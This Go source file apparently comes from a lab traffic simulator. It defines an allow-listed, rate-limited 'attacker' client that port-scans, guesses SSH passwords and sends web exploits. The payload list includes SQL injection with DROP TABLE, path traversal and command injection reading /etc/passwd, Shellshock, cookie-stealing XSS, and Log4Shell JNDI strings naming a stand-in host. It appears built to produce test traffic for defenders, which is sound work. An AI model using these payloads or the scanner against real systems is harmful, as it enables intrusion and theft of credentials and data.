package apps

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"
)

// AttackerConfig is an intruder inside the data center ("attacker"). Each
// round it runs the phases that are configured, in order: a TCP connect
// scan, SSH password guessing, then exploit payloads against web servers.
// Every phase is rate-limited and bounded; nothing leaves Env.Allow.
type AttackerConfig struct {
	Env  `yaml:"-"`
	Pace `yaml:",inline"`
	Scan *ScanPhase `json:"scan,omitempty" yaml:"scan"`
	SSH  *SSHPhase  `json:"ssh,omitempty" yaml:"ssh"`
	Web  *WebPhase  `json:"web,omitempty" yaml:"web"`
}

// ScanPhase is a TCP connect scan.
type ScanPhase struct {
	// Targets are hosts (no port).
	Targets []string `json:"targets" yaml:"targets"`
	// Ports such as "1-1024,3306,5432,6379,8080"; at most 4096 per target.
	Ports string `json:"ports" yaml:"ports"`
	// Rate is connection attempts per second; default 100.
	Rate float64 `json:"rate,omitempty" yaml:"rate"`
	// Timeout of one attempt; default 500ms.
	Timeout Duration `json:"timeout,omitempty" yaml:"timeout"`
}

// SSHPhase guesses passwords: every user with every password on every
// target, one login attempt per connection.
type SSHPhase struct {
	Targets   []string `json:"targets" yaml:"targets"` // "HOST:PORT"
	Users     []string `json:"users" yaml:"users"`
	Passwords []string `json:"passwords" yaml:"passwords"`
	// Rate is attempts per second; default 2.
	Rate float64 `json:"rate,omitempty" yaml:"rate"`
}

// WebPhase sends well-known exploit payloads (SQL injection, path
// traversal, Log4Shell-style JNDI lookups, Shellshock, XSS, command
// injection, scanner probes) to web servers.
type WebPhase struct {
	// URLs are the servers' base URLs.
	URLs []string `json:"urls" yaml:"urls"`
	// Callback is the host:port put into JNDI lookup strings; it is only
	// text in a header, never dialled. Default "attacker.lab.test:1389".
	Callback string `json:"callback,omitempty" yaml:"callback"`
	// Rate is requests per second; default 5.
	Rate float64 `json:"rate,omitempty" yaml:"rate"`
}

const (
	maxScanPorts   = 4096
	maxScanTargets = 64
	maxSSHAttempts = 1000
)

// SetDefaults paces a round every 2 minutes and fills in phase defaults.
func (c *AttackerConfig) SetDefaults() {
	c.Pace.setDefaults(2 * time.Minute)
	if s := c.Scan; s != nil {
		if s.Rate == 0 {
			s.Rate = 100
		}
		if s.Timeout == 0 {
			s.Timeout = Duration(500 * time.Millisecond)
		}
		if s.Ports == "" {
			s.Ports = "1-1024"
		}
	}
	if s := c.SSH; s != nil && s.Rate == 0 {
		s.Rate = 2
	}
	if w := c.Web; w != nil {
		if w.Rate == 0 {
			w.Rate = 5
		}
		if w.Callback == "" {
			w.Callback = "attacker.lab.test:1389"
		}
	}
}

// Validate checks the configuration.
func (c AttackerConfig) Validate() error {
	errs := []error{c.Pace.validate()}
	if c.Scan == nil && c.SSH == nil && c.Web == nil {
		errs = append(errs, fieldErr("", "at least one of scan, ssh, web"))
	}
	checkRate := func(f string, r, limit float64) {
		if !(r >= 0 && r <= limit) { // NaN too
			errs = append(errs, fieldErr(f, "%g: want 0-%g per second", r, limit))
		}
	}
	if s := c.Scan; s != nil {
		if len(s.Targets) == 0 || len(s.Targets) > maxScanTargets {
			errs = append(errs, fieldErr("scan.targets", "want 1-%d targets", maxScanTargets))
		}
		for i, t := range s.Targets {
			if t == "" || strings.Contains(strings.Trim(t, "[]"), "]:") || (strings.Count(t, ":") == 1) {
				errs = append(errs, fieldErr(fmt.Sprintf("scan.targets[%d]", i), "%q: want a host without port", t))
			}
		}
		if _, err := parsePortList(s.Ports, maxScanPorts); err != nil {
			errs = append(errs, &FieldError{Field: "scan.ports", Err: err})
		}
		checkRate("scan.rate", s.Rate, 2000)
		if s.Timeout < 0 || s.Timeout.D() > 10*time.Second {
			errs = append(errs, fieldErr("scan.timeout", "%s: want 0-10s", s.Timeout))
		}
	}
	if s := c.SSH; s != nil {
		if len(s.Targets) == 0 || len(s.Users) == 0 || len(s.Passwords) == 0 {
			errs = append(errs, fieldErr("ssh", "targets, users and passwords are all needed"))
		}
		if n := len(s.Targets) * len(s.Users) * len(s.Passwords); n > maxSSHAttempts {
			errs = append(errs, fieldErr("ssh", "%d attempts per round; at most %d", n, maxSSHAttempts))
		}
		for i, t := range s.Targets {
			errs = append(errs, checkHostPort(fmt.Sprintf("ssh.targets[%d]", i), t))
		}
		checkRate("ssh.rate", s.Rate, 50)
	}
	if w := c.Web; w != nil {
		if len(w.URLs) == 0 {
			errs = append(errs, fieldErr("web.urls", "at least one URL"))
		}
		for i, u := range w.URLs {
			errs = append(errs, checkURL(fmt.Sprintf("web.urls[%d]", i), u, "http", "https"))
		}
		checkRate("web.rate", w.Rate, 100)
	}
	return joinNonNil(errs)
}

// Refs returns every target.
func (c *AttackerConfig) Refs() []*string {
	var refs []*string
	if s := c.Scan; s != nil {
		for i := range s.Targets {
			refs = append(refs, &s.Targets[i])
		}
	}
	if s := c.SSH; s != nil {
		for i := range s.Targets {
			refs = append(refs, &s.Targets[i])
		}
	}
	if w := c.Web; w != nil {
		for i := range w.URLs {
			refs = append(refs, &w.URLs[i])
		}
	}
	return refs
}

// RunAttacker runs the configured phases once per round.
func RunAttacker(ctx context.Context, cfg AttackerConfig) error {
	if err := cfg.Validate(); err != nil {
		return fmt.Errorf("attacker: %w", err)
	}
	log := cfg.log().With("client", "attacker")
	return cfg.Pace.loop(ctx, func(ctx context.Context, n int) {
		log.Info("round", "n", n)
		if s := cfg.Scan; s != nil {
			for _, t := range s.Targets {
				open, err := scanHost(ctx, &cfg.Env, t, s)
				if err != nil {
					failed(ctx, log, "scan", "target", t, "err", err)
					continue
				}
				for _, p := range open {
					log.Info("open port", "target", t, "port", p)
				}
				log.Info("scan done", "target", t, "ports", s.Ports, "open", fmt.Sprint(open))
			}
		}
		if s := cfg.SSH; s != nil {
			guessSSH(ctx, &cfg, s)
		}
		if w := cfg.Web; w != nil {
			sendExploits(ctx, &cfg, w)
		}
	})
}

// scanHost tries a TCP connection to every port of s.Ports on host, at
// s.Rate per second with a bounded number in flight, and returns the open
// ones in order.
func scanHost(ctx context.Context, env *Env, host string, s *ScanPhase) ([]int, error) {
	ranges, err := parsePortList(s.Ports, maxScanPorts)
	if err != nil {
		return nil, err
	}
	timeout := s.Timeout.D()
	if timeout <= 0 {
		timeout = 500 * time.Millisecond
	}
	// Resolve once: a scanner does not look the name up for every port.
	addrs, err := env.dialer(timeout).Resolver.LookupHost(ctx, host)
	if ip := net.ParseIP(host); ip != nil {
		addrs, err = []string{host}, nil
	}
	if err != nil {
		return nil, err
	}
	ip := addrs[0]
	lim := newLimiter(s.Rate)
	sem := make(chan struct{}, 64)
	var mu sync.Mutex
	var open []int
	var wg sync.WaitGroup
	d := env.dialer(timeout)
	var denied error
	for _, r := range ranges {
		for p := r.Lo; p <= r.Hi; p++ {
			if !lim.wait(ctx) {
				break
			}
			sem <- struct{}{}
			wg.Go(func() {
				defer func() { <-sem }()
				c, err := d.DialContext(ctx, "tcp", net.JoinHostPort(ip, strconv.Itoa(p)))
				if err != nil {
					if errors.Is(err, ErrNotAllowed) {
						mu.Lock()
						denied = err
						mu.Unlock()
					}
					return
				}
				c.Close()
				mu.Lock()
				open = append(open, p)
				mu.Unlock()
			})
		}
	}
	wg.Wait()
	if denied != nil {
		return nil, denied
	}
	slices.Sort(open)
	return open, nil
}

func guessSSH(ctx context.Context, cfg *AttackerConfig, s *SSHPhase) {
	log := cfg.log().With("client", "attacker")
	lim := newLimiter(s.Rate)
	for _, t := range s.Targets {
		for _, u := range s.Users {
			for _, pw := range s.Passwords {
				if !lim.wait(ctx) {
					return
				}
				client, err := sshDial(ctx, &cfg.Env, t, u, pw, "SSH-2.0-libssh_0.9.6", cfg.timeout())
				if err != nil {
					log.Info("ssh guess", "target", t, "user", u, "password", pw, "ok", false, "err", shortErr(err))
					continue
				}
				client.Close()
				log.Info("ssh guess", "target", t, "user", u, "password", pw, "ok", true)
			}
		}
	}
}

func shortErr(err error) string {
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 && len(s) > 80 {
		return s[i+2:]
	}
	return s
}

// Exploit is one attack request against a web server.
type Exploit struct {
	Name   string
	Method string
	// Path is sent exactly as written (RawPath), "../" included.
	Path    string
	Headers map[string]string
	Form    url.Values
}

// Exploits returns the payloads the attacker sends; callback is the
// host:port written into JNDI lookup strings.
func Exploits(callback string) []Exploit {
	jndi := "${jndi:ldap://" + callback + "/Basic/Command/Base64/aWQ=}"
	q := func(s string) string { return url.QueryEscape(s) }
	return []Exploit{
		{Name: "sqli-or-true", Method: "GET", Path: "/search?q=" + q("' OR '1'='1' --")},
		{Name: "sqli-union", Method: "GET", Path: "/product?id=" + q("1 UNION SELECT username, password FROM users--")},
		{Name: "sqli-stacked", Method: "GET", Path: "/api/search?q=" + q("x'; DROP TABLE orders; --")},
		{Name: "sqli-login", Method: "POST", Path: "/login", Form: url.Values{"user": {"admin' OR 1=1--"}, "password": {"x"}}},
		{Name: "path-traversal", Method: "GET", Path: "/static/../../../../etc/passwd"},
		{Name: "path-traversal-encoded", Method: "GET", Path: "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"},
		{Name: "log4shell-ua", Method: "GET", Path: "/", Headers: map[string]string{"User-Agent": jndi}},
		{Name: "log4shell-header", Method: "GET", Path: "/login", Headers: map[string]string{"X-Api-Version": jndi, "User-Agent": "Mozilla/5.0"}},
		{Name: "log4shell-obfuscated", Method: "GET", Path: "/products", Headers: map[string]string{
			"Referer": "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://" + callback + "/x}", "User-Agent": "curl/7.88.1"}},
		{Name: "log4shell-query", Method: "GET", Path: "/search?q=" + q(jndi)},
		{Name: "shellshock", Method: "GET", Path: "/cgi-bin/status", Headers: map[string]string{"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}},
		{Name: "xss", Method: "GET", Path: "/search?q=" + q("<script>alert(document.cookie)</script>")},
		{Name: "cmd-injection", Method: "GET", Path: "/search?q=" + q("mug; cat /etc/passwd")},
		{Name: "php-lfi", Method: "GET", Path: "/index.php?page=php://filter/convert.base64-encode/resource=index"},
		{Name: "probe-env", Method: "GET", Path: "/.env"},
		{Name: "probe-git", Method: "GET", Path: "/.git/config"},
		{Name: "probe-wp", Method: "GET", Path: "/wp-login.php", Headers: map[string]string{"User-Agent": "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"}},
	}
}

// sendExploits sends every exploit to every URL, as a scanner would
// announce itself: Nmap's user agent where the payload sets none.
func sendExploits(ctx context.Context, cfg *AttackerConfig, w *WebPhase) {
	x := exploitSender{
		env: &cfg.Env, timeout: cfg.timeout(), callback: w.Callback, rate: w.Rate,
		userAgent: "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
		tls:       ClientTLS{TLSRange: TLSRange{MinTLS: "1.0"}},
		log:       cfg.log().With("client", "attacker"),
	}
	x.send(ctx, w.URLs)
}
